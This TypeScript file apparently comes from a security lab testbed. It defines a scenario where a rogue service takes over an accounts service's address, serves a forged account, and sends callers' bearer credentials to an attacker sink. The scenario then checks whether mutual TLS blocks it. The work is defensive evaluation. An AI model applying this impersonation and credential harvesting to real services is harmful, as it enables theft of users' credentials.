import type { Session } from '../../client/session.js';
import { restartService } from '../../lab/restart.js';
import { runtimeFor } from '../../lab/runtimes/select.js';
import { attackerCertificate, LINK } from '../mitm.js';
import { ensureAttested, servicePart, victimCall, victimSession } from '../plant.js';
import { type RogueService, startRogueService } from '../rogue.js';
import { sinkEvidence, sinkMark, sinkPart } from '../sink.js';
import { judgeByData, type Scenario } from '../types.js';

/** A rogue service takes the accounts service's address and collects the credentials callers hand it. */
export const impersonation: Scenario = {
  id: 'malicious-service.impersonation',
  title: 'A rogue service answers in place of a real one',
  paperAttack: 5,
  technique: 'T1557',
  description:
    "The attacker stops the accounts service and answers on its address with a rogue server (src/attacks/rogue.ts) that returns a forged account and sends the credentials of every caller to the attacker's sink. The victim asks customers for its overview (customers calls accounts with the victim's credentials) and reads accounts through the gateway. The paper checks a service's code once, by its own report at start-up, and nothing proves who answers at a service's address later: callers hand the rogue the victim's bearer ticket. In trusted every link is mTLS with SPIFFE names from the lab CA; the rogue, with only a certificate from its own CA, is refused at the handshake by customers and by the gateway. Revert stops the rogue and starts the real accounts service again.",
  evidence:
    "What reached the attacker's sink from the rogue (succeeded when the victim's credential is there), and what customers and the gateway got from the rogue.",
  expected: { none: 'succeeded', paper: 'succeeded', trusted: 'blocked' },

  async setup(ctx) {
    ctx.scratch.mark = await sinkMark(ctx.lab);
    await victimSession(ctx);
    const real = servicePart(ctx, LINK.callee);
    ctx.scratch.stopped = true;
    await (await runtimeFor(ctx.lab.runtime)).stop(real);
    ctx.scratch.rogue = await startRogueService({
      service: LINK.callee,
      database: LINK.database,
      port: real.port,
      sink: sinkPart(ctx.lab).url,
      forged: { id: 'acc-rogue', owner: 'mallory', status: 'active' },
      ...(ctx.posture === 'trusted' ? { tls: await attackerCertificate(ctx, LINK.callee) } : {}),
    });
  },

  async detonate(ctx) {
    const overview = await victimCall(
      ctx,
      LINK.caller,
      '/overview',
      'the victim asks customers for its overview',
    );
    const got = (overview.body as { peers?: Record<string, unknown> } | null)?.peers?.[LINK.callee];
    overview.attempt.note = `${overview.attempt.note}; customers got from "accounts": ${JSON.stringify(got ?? null)}`;
    await victimCall(
      ctx,
      LINK.callee,
      `/db/${LINK.database}/records`,
      'the victim reads accounts through the gateway',
    );
    const rogue = ctx.scratch.rogue as RogueService;
    const session = ctx.scratch.victimSession as Session;
    const credential =
      session.posture === 'none' ? `"x-tms-user":"${ctx.victim.name}"` : (session.ticket ?? '');
    const seen = await sinkEvidence(
      ctx,
      ctx.scratch.mark as number,
      credential,
      "the victim's credential at the sink",
    );
    const s = rogue.stats();
    seen.note = `${seen.note}; the rogue answered ${s.requests} request(s)${
      s.handshakesRefused.length
        ? `, ${s.handshakesRefused.length} handshake(s) refused: ${s.handshakesRefused[0]}`
        : ''
    }`;
  },

  judge: judgeByData,

  async revert(ctx) {
    await (ctx.scratch.rogue as RogueService | undefined)?.close();
    if (ctx.scratch.stopped === true) {
      await restartService(ctx.lab, LINK.callee);
      await ensureAttested(ctx, LINK.callee);
    }
  },
};
